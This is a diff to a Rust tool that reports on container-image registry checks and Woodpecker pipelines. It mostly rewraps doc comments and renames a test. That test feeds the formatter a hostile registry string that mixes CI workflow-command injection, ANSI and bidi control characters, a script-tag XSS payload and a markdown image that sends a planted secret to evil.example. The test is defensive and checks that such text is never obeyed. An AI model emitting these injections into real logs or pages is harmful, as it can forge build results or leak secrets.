@@ -37,7 +37,8 @@ pub struct Report {
     pub duration: Duration,
     /// The repositories, walked.
     pub repositories: Vec<Checked>,
-    /// Where each image is, in the order in which they were asked for: the place of its repository, and its own there.
+    /// Where each image is, in the order in which they were asked for: the place of its repository,
+    /// and its own there.
     pub order: Vec<(usize, usize)>,
     /// Requests sent, token calls included.
     pub requests: u64,
@@ -45,13 +46,15 @@ pub struct Report {
     pub bytes: u64,
     /// Why the run ended early, if it did.
     pub stopped: Option<Stop>,
-    /// The settle window, when the run's limit did not outlast it, so that no 404 could be believed.
+    /// The settle window, when the run's limit did not outlast it, so that no 404 could be
+    /// believed.
     pub settling: Option<Duration>,
     /// `dry_run`: nothing was pushed, nothing was asked.
     pub skipped: bool,
     /// `fail_on: never`.
     pub never_fail: bool,
-    /// Whether a login of `docker/login-action` may be what the user counted on, and there are no credentials.
+    /// Whether a login of `docker/login-action` may be what the user relied on, and there are no
+    /// credentials.
     pub login_not_visible: bool,
     /// The pipeline that was started to rebuild the image.
     pub pipeline: Option<Pipeline>,
@@ -104,7 +107,7 @@ impl Report {
     }
 }
 
-/// A Woodpecker pipeline, as far as a report tells of it.
+/// The Woodpecker pipeline that a report names.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct Pipeline {
     /// Its number in its repository.
@@ -177,7 +180,7 @@ mod tests {
     }
 
     #[test]
-    fn nobody_obeys_what_a_registry_says() {
+    fn text_from_a_registry_is_never_a_command() {
         let foreign = "::error::owned\r\n::set-output name=result::passed\n##[error]##vso[task.x]\u{1b}[31m\u{9b}31m\
                        \u{202e}\u{200b}<script>alert(1)</script>|`![x](https://evil.example/a?secret=PLANTED)";
         for (format, output) in formats(foreign) {
